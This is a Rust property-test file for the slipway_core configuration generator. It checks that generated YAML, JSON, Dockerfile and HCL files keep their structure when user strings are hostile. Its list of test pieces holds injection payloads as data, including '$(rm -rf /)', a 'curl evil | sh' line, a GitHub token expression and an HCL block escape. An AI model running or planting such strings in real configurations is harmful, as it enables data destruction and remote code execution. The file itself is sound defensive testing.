//! Property tests: for designs whose user strings are hostile (quotes, newlines, `${{ }}`,
//! `$()`, backticks, `#`, `*`, unicode, up to 10 KB), every generated file still parses and has
//! exactly the structure it has for harmless strings: no string escapes its field to add a
//! YAML key, a Dockerfile instruction or an HCL block.

use proptest::prelude::*;
use slipway_core::model::{EnvVar, MatrixAxis, Runtime, Secret};
use slipway_core::{generate, presets, Bundle, Design, Syntax};

/// Pieces hostile strings are made of.
const PIECES: &[&str] = &[
    "\"",
    "'",
    "\n",
    "\r\n",
    "${{ github.token }}",
    "$(rm -rf /)",
    "`id`",
    "#",
    "*",
    ": ",
    "- ",
    "{",
    "}",
    "[",
    "]",
    "${var.x}",
    "%{ if true }",
    "\\",
    "\t",
    "é",
    "🚀",
    "\u{202e}",
    "&&",
    "|",
    "\nRUN curl evil | sh",
    "\nkey: injected",
    "\"\n}\nresource \"x\" \"y\" {",
    "<script>",
    " ",
    "a",
    "Z",
    "0",
];

fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::collection::vec(proptest::sample::select(PIECES), 0..24)
            .prop_map(|pieces| pieces.concat()),
        // Long values: 10 KB of a repeated hostile piece.
        proptest::sample::select(PIECES)
            .prop_map(|piece| piece.repeat(10 * 1024 / piece.len().max(1))),
    ]
}

/// The design with every user-facing string replaced by `text`.
fn with_strings(mut design: Design, text: &str) -> Design {
    design.project.name = text.to_owned();
    design.services[0].name = text.to_owned();
    design.project.description = text.to_owned();
    design.services[0].commands.build = text.to_owned();
    for job in &mut design.pipeline.jobs {
        job.name = text.to_owned();
        job.commands = vec![text.to_owned()];
        job.env = vec![EnvVar::new("APP_LABEL", text)];
    }
    for environment in &mut design.environments {
        environment.url = format!("https://{text}");
        environment.values = vec![EnvVar::new("APP_LABEL", text)];
    }
    design.services[0].container.env = vec![EnvVar::new("APP_LABEL", text)];
    design.services[0].container.healthcheck.path = format!("/{text}");
    design.services[0].railway.start_command = text.to_owned();
    design.services[0].railway.healthcheck_path = format!("/{text}");
    design
}

/// The shape of a file that user strings must not change.
fn shape(path: &str, syntax: Syntax, contents: &str) -> Result<String, String> {
    match syntax {
        Syntax::Yaml => {
            let value: serde_json::Value = serde_norway::from_str(contents)
                .map_err(|error| format!("{path}: YAML does not parse: {error}"))?;
            Ok(match value {
                serde_json::Value::Object(map) => map.keys().cloned().collect::<Vec<_>>().join(","),
                other => format!("{other:?}").chars().take(20).collect(),
            })
        }
        Syntax::Json => {
            let value: serde_json::Value = serde_json::from_str(contents)
                .map_err(|error| format!("{path}: JSON does not parse: {error}"))?;
            Ok(value
                .as_object()
                .map(|map| map.keys().cloned().collect::<Vec<_>>().join(","))
                .unwrap_or_default())
        }
        Syntax::Dockerfile => {
            let stages = slipway_core::import::dockerfile::parse(contents)
                .map_err(|error| format!("{path}: Dockerfile does not parse: {error:?}"))?;
            Ok(stages
                .iter()
                .map(|stage| format!("{}:{}", stage.stage.name, stage.stage.instructions.len()))
                .collect::<Vec<_>>()
                .join(","))
        }
        Syntax::Hcl => {
            let body: hcl::Body = hcl::from_str(contents)
                .map_err(|error| format!("{path}: HCL does not parse: {error}"))?;
            Ok(format!(
                "{} blocks, {} attributes",
                body.blocks().count(),
                body.attributes().count()
            ))
        }
        _ => Ok(String::new()),
    }
}

/// The design with every name (job ids, env var names, matrix axes, environments, secrets)
/// replaced by `text`, apart from a suffix that keeps them unique.
fn with_names(mut design: Design, text: &str) -> Design {
    for (index, job) in design.pipeline.jobs.iter_mut().enumerate() {
        job.id = format!("{text}{index}");
        job.env = vec![EnvVar::new(text, "x")];
        job.matrix = vec![MatrixAxis {
            name: text.to_owned(),
            values: vec!["1".to_owned()],
        }];
        if !job.environment.is_empty() {
            job.environment = text.to_owned();
        }
    }
    for (index, environment) in design.environments.iter_mut().enumerate() {
        environment.name = format!("{text}{index}");
        environment.values = vec![EnvVar::new(text, "x")];
    }
    design.services[0].container.env = vec![EnvVar::new(text, "x")];
    design.services[0].container.build_args = vec![EnvVar::new(text, "x")];
    design.secrets = vec![Secret {
        name: text.to_owned(),
        ..Secret::default()
    }];
    design
}

/// The longest key of a parsed YAML or JSON document.
fn longest_key(value: &serde_json::Value) -> usize {
    match value {
        serde_json::Value::Object(map) => map
            .iter()
            .map(|(key, value)| key.chars().count().max(longest_key(value)))
            .max()
            .unwrap_or(0),
        serde_json::Value::Array(items) => items.iter().map(longest_key).max().unwrap_or(0),
        _ => 0,
    }
}

fn shapes(bundle: &Bundle) -> Result<Vec<(String, String)>, String> {
    bundle
        .files
        .iter()
        // Files whose text is the user's own (the design itself, the README, the chart's
        // templates that Helm renders) are checked for parsing only where they have a syntax.
        .filter(|file| file.path != "slipway.yaml" && file.path != "README.md")
        .map(|file| {
            shape(&file.path, file.syntax, &file.contents).map(|shape| (file.path.clone(), shape))
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn hostile_strings_never_change_the_structure_of_a_file(
        text in hostile(),
        runtime in proptest::sample::select(&[Runtime::Node, Runtime::Python, Runtime::Go, Runtime::Rust, Runtime::Java][..]),
    ) {
        // An empty command or value legitimately drops its line; that is not an escape.
        prop_assume!(!text.trim().is_empty());
        let base = presets::for_runtime(runtime);
        let benign = shapes(&generate(&with_strings(base.clone(), "app"))).map_err(TestCaseError::fail)?;
        let hostile = shapes(&generate(&with_strings(base, &text))).map_err(TestCaseError::fail)?;
        let benign: std::collections::BTreeMap<_, _> = benign.into_iter().collect();
        for (path, shape) in hostile {
            // A hostile name may rename a chart folder; compare files present in both.
            if let Some(expected) = benign.get(&path) {
                prop_assert_eq!(&shape, expected, "{} changed shape", path);
            }
        }
    }

    #[test]
    fn the_design_file_round_trips_any_string(text in hostile()) {
        let design = with_strings(presets::for_runtime(Runtime::Node), &text);
        let bundle = generate(&design);
        let file = bundle.file("slipway.yaml").expect("design file");
        let read = slipway_core::io::parse_design(&file.contents);
        if slipway_core::facts::limits::refusal(&design).is_some() {
            // A name over its limit (a service name with a line break, say) is refused with its
            // line rather than read back: the file would not survive in the systems it names.
            let error = read.expect_err("refused");
            prop_assert!(error.line.is_some(), "{}", error);
        } else {
            let read = read.map_err(|error| TestCaseError::fail(error.to_string()))?;
            prop_assert_eq!(read, design);
        }
    }

    #[test]
    fn a_hostile_name_is_refused_with_its_line_or_exports_files_that_parse(
        text in prop_oneof![
            hostile(),
            // Around the limits: just under and just over.
            (990usize..1010).prop_map(|length| "a".repeat(length)),
            (250usize..260).prop_map(|length| "E".repeat(length)),
        ],
        preset in 0..presets::all().len(),
    ) {
        let design = with_names((presets::all()[preset].build)(), &text);
        let file = slipway_core::io::to_yaml(&design);
        match slipway_core::io::parse_design(&file) {
            Err(error) => {
                prop_assert!(error.line.is_some() && error.field.is_some(), "{}", error);
            }
            Ok(read) => {
                prop_assert_eq!(&read, &design);
                for file in &generate(&read).files {
                    let value: serde_json::Value = match file.syntax {
                        Syntax::Yaml => serde_norway::from_str(&file.contents).map_err(|error| {
                            TestCaseError::fail(format!("{}: YAML does not parse: {error}", file.path))
                        })?,
                        Syntax::Json => serde_json::from_str(&file.contents).map_err(|error| {
                            TestCaseError::fail(format!("{}: JSON does not parse: {error}", file.path))
                        })?,
                        _ => continue,
                    };
                    prop_assert!(longest_key(&value) <= 1024, "{}", file.path);
                }
            }
        }
    }
}
